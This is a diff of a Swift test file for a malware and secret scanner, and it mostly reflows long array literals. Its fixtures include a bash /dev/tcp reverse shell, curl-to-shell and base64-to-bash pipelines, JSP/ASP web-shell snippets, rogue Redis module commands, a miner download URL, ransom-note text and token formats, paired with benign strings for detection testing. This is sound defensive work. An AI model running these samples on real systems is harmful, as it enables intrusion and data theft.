@@ -82,12 +82,18 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
         "<%@ page import=\"java.io.*\" %><% new FileOutputStream(f) %>",
         "<jsp:scriptlet>new ProcessBuilder(c)</jsp:scriptlet>",
       ],
-      leftAlone: ["Runtime.getRuntime().freeMemory()", "<%= user.name %>", "java.lang.ProcessBuilder"]
+      leftAlone: [
+        "Runtime.getRuntime().freeMemory()", "<%= user.name %>", "java.lang.ProcessBuilder",
+      ]
     ),
     SignatureCase(
       "asp-shell",
-      found: ["<%eval request(\"x\")%>", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"])%>"],
-      leftAlone: ["<%= request(\"x\") %>", "eval request(\"x\")", "<script>fetch(request)</script>"]),
+      found: [
+        "<%eval request(\"x\")%>", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"])%>",
+      ],
+      leftAlone: [
+        "<%= request(\"x\") %>", "eval request(\"x\")", "<script>fetch(request)</script>",
+      ]),
     SignatureCase(
       "dev-tcp", found: ["bash -i >& /dev/tcp/192.0.2.1/443 0>&1", "</dev/udp/$h/$p"],
       leftAlone: ["/dev/tcp/", "/dev/tcp is a name", "/dev/tcpip/1/2", "/dev/tcp/host/"]),
@@ -99,7 +105,8 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
         "bash -c \"$(curl -fsSL a.invalid)\"", "bash <(curl -s a.invalid)", "sh -c `wget -O- a.b`",
       ],
       leftAlone: [
-        "curl/8.5.0", "Mozilla curl | share", "wget http://a.invalid/x.tar", "curl a.invalid | jq .",
+        "curl/8.5.0", "Mozilla curl | share", "wget http://a.invalid/x.tar",
+        "curl a.invalid | jq .",
         "the curl of a field || shape", "curl a\n| sh",
       ]),
     SignatureCase(
@@ -120,8 +127,13 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       ]),
     SignatureCase(
       "base64-to-shell",
-      found: ["echo aGk= | base64 -d | bash", "base64 --decode <<< x |python3", "base64 -D x | /bin/sh"],
-      leftAlone: ["base64 -d file > out", "base64 | show", "data:image/png;base64,iVBOR", "base64 -d | shasum"]
+      found: [
+        "echo aGk= | base64 -d | bash", "base64 --decode <<< x |python3", "base64 -D x | /bin/sh",
+      ],
+      leftAlone: [
+        "base64 -d file > out", "base64 | show", "data:image/png;base64,iVBOR",
+        "base64 -d | shasum",
+      ]
     ),
     SignatureCase(
       "shell-in-base64",
@@ -138,14 +150,19 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
   static let programs: [SignatureCase] = [
     SignatureCase(
       "elf-body",
-      bytes: [[0x7f] + Array("ELF".utf8) + [2, 1, 1, 0], [1, 0x7f] + Array("ELF".utf8) + [1, 2, 1, 3]],
+      bytes: [
+        [0x7f] + Array("ELF".utf8) + [2, 1, 1, 0], [1, 0x7f] + Array("ELF".utf8) + [1, 2, 1, 3],
+      ],
       leftAlone: [
-        Array("\u{7f}ELF".utf8), [0x7f] + Array("ELF".utf8) + [9, 9, 9, 9], Array("ELF 64-bit".utf8),
+        Array("\u{7f}ELF".utf8), [0x7f] + Array("ELF".utf8) + [9, 9, 9, 9],
+        Array("ELF 64-bit".utf8),
       ]),
     SignatureCase(
       "pe-body",
       bytes: [
-        Array("MZ".utf8) + [UInt8](repeating: 0x90, count: 126) + Array("PE".utf8) + [0, 0, 0x64, 0x86],
+        Array("MZ".utf8) + [UInt8](repeating: 0x90, count: 126) + Array("PE".utf8) + [
+          0, 0, 0x64, 0x86,
+        ],
         Array("MZ".utf8) + [UInt8](repeating: 1, count: 62) + Array("PE".utf8) + [0, 0, 0x4c, 1],
       ],
       leftAlone: [
@@ -154,11 +171,15 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       ]),
     SignatureCase(
       "elf-in-base64", found: ["f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA"],
-      leftAlone: ["f0VMRg", "af0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA", "f0VMRgZZAQAAAAAAAAAAAAMAPgABAAAA"]),
+      leftAlone: [
+        "f0VMRg", "af0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA", "f0VMRgZZAQAAAAAAAAAAAAMAPgABAAAA",
+      ]),
     SignatureCase(
       "pe-in-base64",
       found: ["TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAA"],
-      leftAlone: ["TVqQAAMA", "TVqQ", "xTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAA"]),
+      leftAlone: [
+        "TVqQAAMA", "TVqQ", "xTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAA",
+      ]),
     SignatureCase(
       "php-in-base64", found: ["PD9waHAgZWNobyAxOw==", "PD9waHAKZWNobyAxOw=="],
       leftAlone: ["PD9waHBpbmZv", "PD94bWwgdmVyc2lvbg==", "AAPD9waHAgZWNobyAxOw=="]),
@@ -174,8 +195,12 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       leftAlone: ["package.loaded", "loadlib", "package.loadlib is gone", "luaopen_iox"]),
     SignatureCase(
       "function-system-access",
-      found: ["return os.execute(args[1])", "io.popen('id')", "debug.getupvalue(f, 1)", "dofile 'x'"],
-      leftAlone: ["os.clock()", "redis.call('get', k)", "io.openness", "-- no os.execute here", "debug.get"]
+      found: [
+        "return os.execute(args[1])", "io.popen('id')", "debug.getupvalue(f, 1)", "dofile 'x'",
+      ],
+      leftAlone: [
+        "os.clock()", "redis.call('get', k)", "io.openness", "-- no os.execute here", "debug.get",
+      ]
     ),
     SignatureCase(
       "lua-bytecode",
@@ -186,7 +211,9 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       leftAlone: ["tairhash-", "ReJSON-RL", "MBbloom--", "exstrtype", "vectorset"]),
     SignatureCase(
       "rogue-module",
-      found: ["system.exec 'id'", "system.rev 192.0.2.1 4444", "/tmp/exp.so", "MODULE LOAD red2.so"],
+      found: [
+        "system.exec 'id'", "system.rev 192.0.2.1 4444", "/tmp/exp.so", "MODULE LOAD red2.so",
+      ],
       leftAlone: ["ecosystem.executor", "export.so", "libexp.so", "system.execute"]),
   ]
 
@@ -195,7 +222,8 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       "key-backup-1-to-4", found: ["backup1", "Backup4"],
       leftAlone: ["backup5", "backup10", "my-backup1", "backup1:x"]),
     SignatureCase(
-      "key-crackit", found: ["crackit", "crackiit"], leftAlone: ["crackit2", "firecrackit", "cracket"]),
+      "key-crackit", found: ["crackit", "crackiit"],
+      leftAlone: ["crackit2", "firecrackit", "cracket"]),
     SignatureCase(
       "watchdog",
       found: ["http://oracle.zzhreceive.top/b2f628/b.sh", "/cleanfda/init.sh", "cd1 -fsSL x"],
@@ -218,7 +246,10 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       leftAlone: ["stratum+x", "--donate-levels", "xmrigs"]),
     SignatureCase(
       "ransom-note",
-      found: ["Send 0.03 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "please pay 1 bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"],
+      found: [
+        "Send 0.03 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
+        "please pay 1 bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
+      ],
       leftAlone: ["send 2 BTC to Bob", "BTC 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "paying bitcoin"]),
   ]
 
@@ -226,7 +257,9 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
     SignatureCase(
       "private-key",
       found: ["-----BEGIN RSA PRIVATE KEY-----\nMIIE", "-----BEGIN PRIVATE KEY-----\nMIIE"],
-      leftAlone: ["-----BEGIN PUBLIC KEY-----\nMIIB", "BEGIN RSA PRIVATE KEY", "-----BEGIN CERTIFICATE-----"]
+      leftAlone: [
+        "-----BEGIN PUBLIC KEY-----\nMIIB", "BEGIN RSA PRIVATE KEY", "-----BEGIN CERTIFICATE-----",
+      ]
     ),
     SignatureCase(
       "aws-access-key", found: ["AKIAIOSFODNN7EXAMPLE", "id=ASIAIOSFODNN7EXAMPLE;"],
@@ -243,7 +276,9 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       leftAlone: ["ya29.short", "GOCSPX-", "xya29." + letters]),
     SignatureCase(
       "slack-token",
-      found: ["xoxb-123456789012-abcdef", "https://hooks.slack.com/services/T000/B000/" + "XXXXXXXXXXXX"],
+      found: [
+        "xoxb-123456789012-abcdef", "https://hooks.slack.com/services/T000/B000/" + "XXXXXXXXXXXX",
+      ],
       leftAlone: ["xoxb-short", "xoxz-123456789012", "hooks.slack.com/services/T0"]),
     SignatureCase(
       "github-token", found: ["ghp_" + String(repeating: "a1", count: 18)],
@@ -253,7 +288,9 @@ struct SignatureCase: Sendable, CustomTestStringConvertible {
       leftAlone: ["glpat-short", "glpat_" + letters]),
     SignatureCase(
       "stripe-key", found: ["sk_live_" + String(repeating: "a1", count: 12)],
-      leftAlone: ["sk_test_" + String(repeating: "a1", count: 12), "sk_live_x", "task_live_" + letters]),
+      leftAlone: [
+        "sk_test_" + String(repeating: "a1", count: 12), "sk_live_x", "task_live_" + letters,
+      ]),
     SignatureCase(
       "jwt", found: [jwt, "Bearer " + jwt],
       leftAlone: ["eyJhbGciOiJIUzI1NiJ9", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIi", "x" + jwt]),
